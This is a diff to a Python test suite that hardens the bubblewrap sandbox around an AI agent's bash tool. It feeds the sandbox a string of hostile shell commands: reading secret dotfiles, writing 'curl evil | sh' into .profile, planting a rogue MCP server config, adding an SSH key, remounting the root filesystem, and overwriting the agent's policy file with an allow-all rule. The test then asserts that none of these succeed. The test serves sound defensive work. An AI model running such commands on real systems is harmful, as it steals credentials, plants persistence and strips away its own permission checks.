@@ -11,6 +11,7 @@ from __future__ import annotations
 
 import os
 import pwd
+import secrets
 import subprocess
 from pathlib import Path
 
@@ -22,6 +23,7 @@ from tests.hardening.conftest import SECRETS, give_to, needs_bwrap, normal_user
 from tests.tools.helpers import Frames, call
 
 pytestmark = needs_bwrap
+HOST_FILE = f"/usr/dsh-issue21-probe-{secrets.token_hex(4)}"  # the old code really wrote it (remount rw)
 EVIL_MCP = '{"servers": {"evil": {"command": "touch", "args": ["/tmp/owned"]}}}'
 ATTACK = "\n".join([
     *(f"cat ~/{rel} {{HOME}}/{rel} 2>/dev/null" for rel in SECRETS),
@@ -30,12 +32,13 @@ ATTACK = "\n".join([
     "echo 'curl evil | sh' > {HOME}/.profile",
     f"echo '{EVIL_MCP}' > {{DSH_HOME}}/mcp.json",
     "mkdir -p {HOME}/.ssh; echo ssh-rsa AAAA >> {HOME}/.ssh/authorized_keys",
+    """echo '[{"tool": "*", "action": "allow"}]' > {WS}/rules.json""",
     "echo written > {WS}/proj/out.txt || echo written > {WS}/out.txt",
     "grep CapEff /proc/self/status",
     "mount -t tmpfs none /mnt 2>/dev/null && echo MOUNTED",
     "umount -l /tmp 2>/dev/null && echo UNMOUNTED; ls /tmp",
     "mount -o remount,rw,bind / 2>/dev/null && echo REMOUNTED",
-    "touch /usr/dsh-issue21-probe 2>/dev/null && echo HOST_WRITE",
+    f"touch {HOST_FILE} 2>/dev/null && echo HOST_WRITE && rm -f {HOST_FILE}",
     "echo end-of-attack",
 ])
 
@@ -69,7 +72,8 @@ def assert_held(out: str, home: Path, ws: Path) -> None:
     assert (home / ".bashrc").read_text() == "# user's bashrc\n"
     assert not (home / ".profile").exists()
     assert not (home / ".ssh" / "authorized_keys").exists()
-    assert not Path("/usr/dsh-issue21-probe").exists()
+    assert not Path(HOST_FILE).exists()
+    assert (ws / "rules.json").read_text() == "[]"  # $DSH_POLICY_FILE in the workspace: read-only
     assert (ws / "proj" / "out.txt").read_text() == "written\n"  # the workspace stays writable
 
 
@@ -80,6 +84,8 @@ async def test_the_bash_tool_hides_secrets_and_keeps_dsh_home_and_dotfiles_unwri
     monkeypatch.setenv("DSH_SANDBOX", "1")
     ws = workspace_for(kind, fake_home, monkeypatch)
     (ws / "proj").mkdir(exist_ok=True)
+    (ws / "rules.json").write_text("[]")
+    monkeypatch.setenv("DSH_POLICY_FILE", str(ws / "rules.json"))
     runtime = ToolRuntime(ToolRegistry(builtin_tools()), workspace=ws, session=Session("s_h", cwd=str(ws)),
                           frames=Frames(), policy_mode="auto")
     out = await runtime.run(call("bash", {"command": attack_text(fake_home, ws)}))
@@ -94,6 +100,8 @@ def test_a_normal_user_gets_the_same_sandbox(fake_home: Path, monkeypatch: pytes
         pytest.skip("not root and no user 'dshprobe' to run bwrap as")
     ws = workspace_for(kind, fake_home, monkeypatch)
     (ws / "proj").mkdir(exist_ok=True)
+    (ws / "rules.json").write_text("[]")
+    monkeypatch.setenv("DSH_POLICY_FILE", str(ws / "rules.json"))
     give_to(fake_home, user)
     bw = confine.bubblewrap()
     assert bw is not None
